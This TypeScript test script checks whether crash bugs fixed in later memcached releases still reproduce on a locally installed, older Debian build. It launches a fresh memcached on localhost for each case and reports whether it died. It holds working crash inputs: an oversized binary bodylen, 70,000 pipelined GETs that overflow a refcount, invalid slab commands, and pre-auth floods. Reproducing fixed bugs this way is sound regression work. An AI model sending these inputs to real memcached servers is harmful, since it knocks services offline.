// Which memcached parser/protocol crash fixes of 1.6.19–1.6.46 reproduce on the installed memcached
// (Debian's 1.6.18-1+deb12u1 backports some)? Each candidate runs against a fresh memcached, bounded
// in time (5–15 s); the verdict is whether the process died and with which signal.
//   node --import tsx demo/crash-probe.ts [--json]
import { spawn } from 'node:child_process';
import net from 'node:net';
import { writeFileSync, mkdtempSync, chmodSync } from 'node:fs';
import { join } from 'node:path';
import os from 'node:os';
import { freePort } from '../test/helpers/server.ts';
import { CRASH_INPUT, setMany } from './attack.ts';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const open = (port: number) => new Promise<net.Socket>((resolve, reject) => {
  const s = net.connect(port, '127.0.0.1', () => resolve(s)); s.on('error', reject);
});
const binHeader = (op: number, keylen: number, extlen: number, bodylen: number) => {
  const h = Buffer.alloc(24); h[0] = 0x80; h[1] = op; h.writeUInt16BE(keylen, 2); h[4] = extlen; h.writeUInt32BE(bodylen >>> 0, 8); return h;
};

interface Candidate { fix: string; input: string; args?: string[]; run(port: number, dir: string): Promise<void> }

const CANDIDATES: Candidate[] = [
  { fix: '1.6.42 32ea7d8b5 binary SET failure logged for `watch mutations` (NULL deref)', input: CRASH_INPUT.name, run: (p) => CRASH_INPUT.send(p) },
  { fix: '1.6.42 229cf41be binary bodylen > INT_MAX (signed overflow, desync)', input: 'binary SET, extlen 8, keylen 1, bodylen 0x80000010, + 64 bytes',
    async run(p) { const s = await open(p); s.on('error', () => {}); s.write(Buffer.concat([binHeader(0x01, 1, 8, 0x80000010), Buffer.alloc(64, 0x41)])); await sleep(1500); s.destroy(); } },
  { fix: '1.6.42 0240ddee0 `slabs reassign` to an invalid class', input: 'fill class 31 (70 KB values), then `slabs reassign 31 64`, `slabs reassign 31 60`', args: ['-m', '8'],
    async run(p) {
      await setMany(p, Array.from({ length: 200 }, (_, i): [string, Buffer] => [`b${i}`, Buffer.alloc(70000, 0x78)])).catch(() => {});
      const s = await open(p); s.on('error', () => {}); s.write('slabs reassign 31 64\r\nslabs reassign 31 60\r\n'); await sleep(3000); s.destroy();
    } },
  { fix: '1.6.43 e3b7d33ce binary refcount overflow (pipelined GETs of one key)', input: 'set k, then 70,000 pipelined binary GET k, not read for 2 s',
    async run(p) {
      await setMany(p, [['k', Buffer.from('v')]]);
      const s = await open(p); s.on('error', () => {});
      const get = Buffer.concat([binHeader(0x00, 1, 0, 1), Buffer.from('k')]);
      s.pause(); s.write(Buffer.concat(Array.from({ length: 70_000 }, () => get))); await sleep(2000); s.resume(); await sleep(1000); s.destroy();
    } },
  { fix: '1.6.44 7eeac6e9a `lru_crawler metadump` to a client that never reads (buffer overflow)', input: '20,000 items, `lru_crawler metadump all`, socket never read for 10 s',
    async run(p) {
      await setMany(p, Array.from({ length: 20_000 }, (_, i): [string, Buffer] => [`key-${i}-${'x'.repeat(100)}`, Buffer.from('v')]));
      const s = await open(p); s.on('error', () => {}); s.pause(); s.write('lru_crawler metadump all\r\n'); await sleep(10_000); s.destroy();
    } },
  { fix: '1.6.44 6ab74b585 `slabs automove` with an invalid window', input: '`slabs automove 0`, `slabs automove 99999` (1.6.18 has no window argument)',
    async run(p) { const s = await open(p); s.on('error', () => {}); s.write('slabs automove 0\r\nslabs automove 99999\r\nslabs automove window 0\r\n'); await sleep(1500); s.destroy(); } },
  { fix: '1.6.42 9981d748f ASCII auth (-Y) huge pre-auth token', input: 'with -Y: `set foo 0 0 2147483646` + 1 MiB', args: ['-Y', 'AUTHFILE'],
    async run(p) { const s = await open(p); s.on('error', () => {}); s.write('set foo 0 0 2147483646\r\n'); s.write(Buffer.alloc(1 << 20, 0x61)); await sleep(2000); s.destroy(); } },
  { fix: '1.6.44 af05c9302 ASCII auth (-Y) + a run of empty lines', input: 'with -Y: 10,000 × "\\r\\n", then 10,000 × "\\n"', args: ['-Y', 'AUTHFILE'],
    async run(p) { const s = await open(p); s.on('error', () => {}); s.write('\r\n'.repeat(10_000)); s.write('\n'.repeat(10_000)); await sleep(2000); s.destroy(); } },
];

async function probe(c: Candidate): Promise<{ fix: string; input: string; result: string; crashed: boolean }> {
  const dir = mkdtempSync(join(os.tmpdir(), 'crash-probe-'));
  const auth = join(dir, 'auth'); writeFileSync(auth, 'user:pass\n');
  chmodSync(dir, 0o755); chmodSync(auth, 0o644); // memcached reads it as -u nobody
  const port = await freePort();
  const args = ['-p', String(port), '-l', '127.0.0.1', '-U', '0', '-t', '1', ...(process.getuid?.() === 0 ? ['-u', 'nobody'] : []),
    ...(c.args ?? []).map((a) => (a === 'AUTHFILE' ? auth : a))];
  const mc = spawn('memcached', args, { stdio: 'ignore' });
  const exited = new Promise<string>((r) => mc.once('exit', (code, sig) => r(sig ? `killed by ${sig}` : `exited ${code}`)));
  let up = false;
  for (let i = 0; i < 100 && !up; i++) { try { (await open(port)).destroy(); up = true; } catch { await sleep(50); } }
  if (!up) { mc.kill('SIGKILL'); return { fix: c.fix, input: c.input, crashed: false, result: `did not start (${await exited})` }; }
  let err = '';
  await Promise.race([c.run(port).catch((e: Error) => { err = e.message; }), sleep(15_000)]);
  const verdict = await Promise.race([exited, sleep(1000).then(() => null)]);
  if (verdict === null) { mc.kill('SIGTERM'); await exited; }
  return { fix: c.fix, input: c.input, crashed: verdict !== null, result: verdict ?? `survived${err ? ` (${err})` : ''}` };
}

const results = [];
for (const c of CANDIDATES) { const r = await probe(c); results.push(r); if (!process.argv.includes('--json')) console.log(`${r.crashed ? 'CRASH   ' : 'no crash'}  ${r.fix}\n          input: ${r.input}\n          memcached: ${r.result}`); }
if (process.argv.includes('--json')) console.log(JSON.stringify(results, null, 2));
process.exit(0);
